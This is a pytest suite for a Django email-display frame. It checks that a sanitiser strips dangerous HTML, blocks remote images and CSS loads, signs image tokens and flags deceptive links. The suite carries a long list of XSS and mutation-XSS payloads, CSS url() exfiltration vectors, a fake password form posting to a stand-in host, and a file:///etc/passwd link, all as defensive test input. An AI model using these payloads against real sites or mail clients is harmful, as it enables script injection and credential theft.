"""Attacks X2 to X4, X7 and X8 on the frame that shows a mail as it was sent."""

from __future__ import annotations

from html.parser import HTMLParser

import pytest
from django.core import signing

from presszero.desk.frame import _ATTRIBUTES, _TAGS, POLICY, framed, read_image, sign_image

ACTS = """
<script>alert(1)</script>
<ScRiPt src=//e.example/x></sCrIpT>
<img src=x onerror=alert(1)>
<svg><script>alert(1)</script></svg>
<svg><set attributeName=href to=javascript:alert(1)></svg>
<svg><animate onbegin=alert(1) attributeName=x></svg>
<svg/onload=alert(1)>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<template><img src=x onerror=alert(1)></template>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<style><img title="</style><img src=x onerror=alert(1)>"></style>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<base href="https://e.example/">
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<link rel=stylesheet href=//e.example/x.css>
<form action="https://e.example/"><input name=password><button>Go</button></form>
<button formaction="javascript:alert(1)">x</button>
<details open ontoggle=alert(1)>x</details>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="blob:https://e.example/1">x</a>
<a href="file:///etc/passwd">x</a>
<img src='x' alt="`onerror=alert(1)">
<img src='https://e.example/?
<input name=getElementById>
<img name=cookie><a id=location>x</a>
<plaintext><script>alert(1)
<marquee onstart=alert(1)>x</marquee>
<body onload=alert(1)>
<video poster="https://e.example/p"><source src=x onerror=alert(1)></video>
<audio src="https://e.example/a" autoplay></audio>
<table background="https://e.example/b"><td background="https://e.example/c">x</td></table>
<p><b><i></p><script>alert(1)</script></b></i>
<div><!--><script>alert(1)</script>--></div>
<![CDATA[<script>alert(1)</script>]]>
<?xml-stylesheet href="javascript:alert(1)"?>
""".strip().splitlines()


class Inventory(HTMLParser):
    """Every element and attribute of a document, as a browser's parser would come by them."""

    def __init__(self, document: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(document.partition("<body>")[2])

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


def shown(html: str, **more: object) -> str:
    return framed(html, {}, **more).document.partition("<body>")[2]


@pytest.mark.parametrize("html", ACTS)
def test_x2_nothing_that_acts_is_left(html: str) -> None:
    for tag, attributes in Inventory(framed(html, {}).document).found:
        assert tag in _TAGS
        allowed = _ATTRIBUTES.get(tag, set()) | _ATTRIBUTES["*"] | {"rel", "target"}
        assert set(attributes) <= allowed, (tag, attributes)
        assert (attributes.get("href") or "https:").startswith(("https:", "http:"))
        assert "src" not in attributes


@pytest.mark.parametrize("html", ACTS)
def test_x2_cleaning_what_is_clean_changes_nothing(html: str) -> None:
    """Mutation attacks need a second parse to read something else; a second pass must find the same."""
    once = framed(html, {}).document
    again = framed(once.partition("<body>")[2].removesuffix("</body></html>"), {}).document
    assert Inventory(again).found == Inventory(once).found


def test_x2_the_frame_has_a_policy_of_its_own() -> None:
    assert "default-src 'none'" in POLICY and "script-src" not in POLICY
    sandbox = POLICY.partition("sandbox")[2]
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox and "allow-forms" not in sandbox


@pytest.mark.parametrize(
    "style",
    [
        "background:url(//e.example/x)",
        "background-image:url('https://e.example/x')",
        "background-color:red;background:url(//e/x)",
        "color:red;position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:9999",
        "position:absolute;inset:0",
        "list-style-image:url(//e/x)",
        "content:url(//e/x)",
        "cursor:url(//e/x),auto",
        "width:expression(alert(1))",
        "behavior:url(x.htc)",
        "-moz-binding:url(//e/x)",
        "background-color:u\\72l(//e/x)",
        "font-family:x;src:url(//e/x)",
        "border:1px solid;border-image:url(//e/x) 30",
        "transform:translateY(-900px)",
        "background-color:image-set('//e/x' 1x)",
    ],
)
def test_x3_styles_fetch_nothing_and_cover_nothing(style: str) -> None:
    kept = Inventory(framed(f'<p style="{style}">x</p>', {}).document).found[0][1].get("style") or ""
    for word in ("url", "position", "fixed", "inset", "content", "cursor", "behavior", "binding", "transform", "image"):
        assert word not in kept.lower()


def test_x3_style_sheets_are_gone_with_their_words() -> None:
    body = shown("<style>@import '//e/x'; @font-face{src:url(//e/y)} p{color:red}</style><p style='color:red'>kept</p>")
    assert "@import" not in body and "@font-face" not in body and "kept" in body and "color:red" in body


@pytest.mark.parametrize(
    "html",
    [
        '<img src="https://t.example/pixel.gif" width=1 height=1>',
        '<img src="http://127.0.0.1:5432/">',
        '<img src="//t.example/x">',
        '<img srcset="https://t.example/x 2x">',
        '<picture><source srcset="https://t.example/x"><img></picture>',
        '<video poster="https://t.example/x"></video>',
        '<link rel=prefetch href="https://t.example/x">',
        '<input type=image src="https://t.example/x">',
        '<img src="/conversations/42/resolution">',
        '<img src="https:t.example/x">',
        '<img src="\thttps://t.example/x">',
    ],
)
def test_x4_nothing_of_another_server_is_loaded_unasked(html: str) -> None:
    for _, attributes in Inventory(framed(html, {}).document).found:
        assert not {"src", "srcset", "poster", "background"} & set(attributes)


def test_x4_what_was_left_out_is_counted_and_comes_through_us_when_asked() -> None:
    html = '<img src="https://t.example/a?b=1&amp;c=2" alt="A"><img src="cid:logo@x"><img src="cid:other">'
    inline = {"logo@x": "/entries/images/attached"}
    assert framed(html, inline).blocked == 1
    asked = framed(html, inline, lambda url: "/entries/images/" + url[8:]).document
    sources = [attributes.get("src") for _, attributes in Inventory(asked).found]
    assert sources == ["/entries/images/t.example/a?b=1&c=2", "/entries/images/attached", None]
    assert "img-src 'self' data:" in POLICY


def test_x4_a_picture_written_into_the_mail_is_shown_unless_it_is_a_document() -> None:
    png = "data:image/png;base64,iVBORw0KGgo="
    assert png in shown(f'<img src="{png}">')
    assert "data:" not in shown('<img src="data:image/svg+xml;base64,PHN2Zz4=">')
    assert "data:" not in shown('<img src="data:text/html,x">')


def test_x4_a_picture_token_is_bound_and_expires(monkeypatch: pytest.MonkeyPatch) -> None:
    token = sign_image(7, 3, "https://t.example/a")
    assert read_image(token) == (7, 3, "https://t.example/a")
    with pytest.raises(signing.BadSignature):
        read_image(token[:-2] + ("AA" if token[-2:] != "AA" else "BB"))
    monkeypatch.setattr("django.core.signing.time.time", lambda: __import__("time").monotonic() + 9e9)
    with pytest.raises(signing.SignatureExpired):
        read_image(token)


def test_x7_links_of_other_kinds_lose_their_address() -> None:
    for url in ("javascript:alert(1)", "data:text/html,x", "vbscript:x", "file:///etc/passwd", "ftp://x", "cid:x"):
        body = shown(f'<a href="{url}">x</a>')
        assert "javascript" not in body and "vbscript" not in body and "file:" not in body and "data:text" not in body


def test_x8_a_link_that_names_another_host_says_where_it_leads() -> None:
    body = shown('<a href="https://evil.example/login">https://www.bank.example/login</a>')
    assert "leads to evil.example" in body
    assert "leads to" not in shown('<a href="https://www.bank.example/x">bank.example</a>')
    assert "leads to" not in shown('<a href="https://shop.example/x">our shop</a>')
    assert "leads to evil.example" in shown('<a href="https://evil.example/"><b>bank</b>.example</a>')


def test_x8_links_leave_no_way_back() -> None:
    [(_, attributes)] = Inventory(
        framed('<a href="https://a.example/" target=_top rel=opener>x</a>', {}).document
    ).found
    assert attributes["target"] == "_blank" and "noopener" in (attributes["rel"] or "")


def test_ordinary_mail_still_looks_like_mail() -> None:
    html = (
        '<table width="600" bgcolor="#eee"><tr><td style="color:#333;padding:8px"><b>Hi</b><br>there</td></tr></table>'
    )
    body = shown(html)
    assert "<b>Hi</b><br>there" in body and 'bgcolor="#eee"' in body and "padding:8px" in body


def test_a_very_long_or_broken_mail_is_shown_all_the_same() -> None:
    assert "deep" in shown("<div>" * 20_000 + "deep")
    assert shown("\x00<p>nul</p>").count("nul") == 1
